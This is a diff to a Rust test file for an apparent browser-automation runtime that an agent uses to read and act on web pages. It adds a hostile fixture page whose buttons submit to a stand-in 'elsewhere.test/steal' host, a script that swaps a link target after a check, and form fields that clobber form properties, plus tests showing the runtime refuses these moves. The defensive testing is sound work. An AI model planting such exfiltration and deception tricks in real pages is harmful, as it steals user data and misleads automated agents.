@@ -36,6 +36,30 @@ Element.prototype.checkVisibility = function (...args) {
 };
 </script>"#;
 
+/// Controls whose way out of the origin is easy to miss.
+const TRICKS: &str = r#"<!doctype html><title>Tricks</title>
+<form action="/lesson/answer" method="post">
+<input name="q" value="1">
+<button type="bogus" formaction="https://www.elsewhere.test/steal">Send on</button>
+</form>
+<form action="/lesson/answer" method="post">
+<label>Word <input name="word"></label>
+<button formaction="https://www.elsewhere.test/steal">Check</button>
+</form>
+<form action="/lesson/answer" method="post">
+<input name="elements" value="e"><input name="action" value="a"><label>Gloss <input name="gloss"></label>
+<button>Done</button>
+</form>
+<a id="moving" href="/lesson/2">Moving on</a>
+<script>
+const seen = Element.prototype.checkVisibility;
+let first = true;
+Element.prototype.checkVisibility = function (...args) {
+  if (this.id === 'moving' && first) { first = false; queueMicrotask(() => { this.href = '/lesson/3'; }); }
+  return seen.apply(this, args);
+};
+</script>"#;
+
 const FORM: &str = r#"<!doctype html><title>Answer</title>
 <form action="/lesson/answer" method="post">
 <label>Your answer <input name="answer"></label>
@@ -63,6 +87,7 @@ async fn stack() -> Stack {
         ("/lesson/rename", RENAME),
         ("/lesson/form", FORM),
         ("/lesson/same", AGREE),
+        ("/lesson/tricks", TRICKS),
         ("/lesson/pay", "<!doctype html><title>Paid</title><p>Paid"),
         ("/lesson/answer", "<!doctype html><title>Checked</title><p>Checked"),
     ] {
@@ -568,4 +593,112 @@ async fn a_crashed_browser_is_reported_and_restarts_clean() {
     assert_ne!(s.driver_pid(&session).await, driver);
     let reply = s.act(click(&session, &o, node(&o, "Next question").0)).await.unwrap();
     assert!(reply.ok, "{reply:?}");
+}
+
+#[tokio::test]
+async fn a_replayed_act_dispatches_nothing_and_a_refusal_keeps_the_sequence() {
+    let mut s = stack().await;
+    let session = s.open("profile-1", "/lesson/1", 50).await.unwrap();
+    let o = s.observe(&session).await;
+    let mut go = click(&session, &o, node(&o, "Go on").0);
+    go.sequence = 1;
+    assert!(s.act(go.clone()).await.unwrap().dispatched);
+    // The reply was lost and the worker retries: the same sequence is refused, nothing is sent.
+    let err = s.act(go).await.unwrap_err();
+    assert_eq!(err.code(), Code::AlreadyExists, "{err:?}");
+    let o = s.observe(&session).await;
+    let mut skip = click(&session, &o, node(&o, "Next question").0);
+    skip.sequence = 3;
+    assert_eq!(s.act(skip.clone()).await.unwrap_err().code(), Code::FailedPrecondition, "a gap in the sequence");
+    // A refusal (the page is now outside the prefix) leaves sequence 2 free.
+    skip.sequence = 2;
+    skip.constraint = Some(task_constraint());
+    refused(&s.act(skip).await.unwrap(), rt::ActCode::GrantNotApplicable);
+    let o = s.observe(&session).await;
+    let mut next = click(&session, &o, node(&o, "Next question").0);
+    next.sequence = 2;
+    next.wait_for = rt::WaitFor::Navigation as i32;
+    assert!(s.act(next).await.unwrap().ok);
+    assert_eq!(documents(&s).iter().filter(|d| d.ends_with("/lesson/2")).count(), 1, "{:?}", documents(&s));
+}
+
+#[tokio::test]
+async fn the_claim_must_match_the_snapshot_as_well_as_the_live_page() {
+    let mut s = stack().await;
+    let session = s.open("profile-1", "/lesson/rename", 50).await.unwrap();
+    let o = s.observe(&session).await;
+    // The page renamed the button after the read; naming what it says now is not what the
+    // snapshot showed.
+    let mut act = click(&session, &o, node(&o, "Continue").0);
+    act.expected_name = "Delete account".into();
+    refused(&s.act(act).await.unwrap(), rt::ActCode::NameMismatch);
+
+    // A target that moved since the snapshot makes it stale, even when the name did not change.
+    let session = s.open("profile-2", "/lesson/tricks", 50).await.unwrap();
+    let o = s.observe(&session).await;
+    let (moving, facts) = node(&o, "Moving on");
+    assert_eq!(facts.nav_targets, vec![format!("{LESSON_ORIGIN}/lesson/2")]);
+    let reply = s.act(click(&session, &o, moving)).await.unwrap();
+    refused(&reply, rt::ActCode::StaleSnapshot);
+    assert!(!documents(&s).iter().any(|d| d.contains("/lesson/3")));
+}
+
+#[tokio::test]
+async fn hidden_ways_off_the_origin_are_refused() {
+    let mut s = stack().await;
+    s.record("run-1", &[("word", "gato")]);
+    let session = s.open("profile-1", "/lesson/tricks", 50).await.unwrap();
+    // A button whose unknown type makes it a submit, with a formaction elsewhere.
+    let o = s.observe(&session).await;
+    let (send, facts) = node(&o, "Send on");
+    assert!(facts.nav_targets.iter().any(|t| t.starts_with("https://www.elsewhere.test/")), "{facts:?}");
+    refused(&s.act(click(&session, &o, send)).await.unwrap(), rt::ActCode::OffOriginTarget);
+
+    // Enter in a field submits through the form's default button and its formaction.
+    let o = s.observe(&session).await;
+    let (word, _) = node(&o, "Word");
+    let mut enter = click(&session, &o, word);
+    enter.expected_role = rt::Role::Textbox as i32;
+    enter.action = Some(rt::act_request::Action::Press(rt::Press { key: "Enter".into() }));
+    refused(&s.act(enter).await.unwrap(), rt::ActCode::OffOriginTarget);
+
+    // Typing is not a navigation: the record's value goes in.
+    let o = s.observe(&session).await;
+    let mut typed = click(&session, &o, node(&o, "Word").0);
+    typed.expected_role = rt::Role::Textbox as i32;
+    typed.action = Some(rt::act_request::Action::Type(rt::Type { field_id: "word".into() }));
+    assert!(s.act(typed).await.unwrap().ok);
+
+    // Letters pressed one at a time would spell literal text: refused, with or without a grant.
+    for constraint in [None, Some(task_constraint())] {
+        let o = s.observe(&session).await;
+        let mut key = click(&session, &o, node(&o, "Gloss").0);
+        key.expected_role = rt::Role::Textbox as i32;
+        key.action = Some(rt::act_request::Action::Press(rt::Press { key: "x".into() }));
+        key.constraint = constraint.clone();
+        let reply = s.act(key).await.unwrap();
+        let want =
+            if constraint.is_some() { rt::ActCode::GrantNotApplicable } else { rt::ActCode::NodeNotInteractable };
+        refused(&reply, want);
+    }
+    assert!(s.fixture.requests().iter().all(|r| r.host != ELSEWHERE), "{:?}", s.fixture.requests());
+
+    // Fields named like the form's own properties do not hide the others from the read-back.
+    let o = s.observe(&session).await;
+    let (done, _) = node(&o, "Done");
+    let form = s
+        .runtime
+        .read_form(with(
+            WORKER,
+            rt::ReadFormRequest {
+                session_id: session.clone(),
+                snapshot_id: o.snapshot_id.clone(),
+                r#ref: done.r#ref.clone(),
+            },
+        ))
+        .await
+        .unwrap()
+        .into_inner();
+    let names: Vec<_> = form.fields.iter().map(|f| f.name.as_str()).collect();
+    assert_eq!(names, ["elements", "action", "gloss"]);
 }
